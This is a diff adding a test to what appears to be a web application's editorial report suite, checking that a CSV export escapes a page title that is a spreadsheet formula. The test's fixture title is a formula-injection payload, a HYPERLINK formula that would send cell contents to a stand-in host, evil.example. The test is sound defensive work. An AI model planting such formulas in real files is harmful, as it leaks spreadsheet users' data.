@@ -83,6 +83,16 @@ def test_report__csv_export_says_who_approved_and_when(
     assert rows["Brouillon"]["Validé par"] == ""
 
 
+def test_report__csv_export_quotes_a_title_that_is_a_formula(make_page, approver, login) -> None:  # type: ignore[no-untyped-def]
+    make_page('=HYPERLINK("https://evil.example/?d="&A1;"Voir")')
+    make_page("Atelier du lundi")
+
+    rows = rows_of_csv(login(approver).get(reverse(REPORT) + "?export=csv"))
+
+    titles = sorted(row["Titre"] for row in rows)
+    assert titles == ['\'=HYPERLINK("https://evil.example/?d="&A1;"Voir")', "Atelier du lundi"]
+
+
 def test_report__filters_by_state(pages_in_every_state, approver, login) -> None:
     response = login(approver).get(reverse(REPORT) + "?editorial_state=chambre&export=csv")
     assert [row["Titre"] for row in rows_of_csv(response)] == ["Chez la Chambre"]
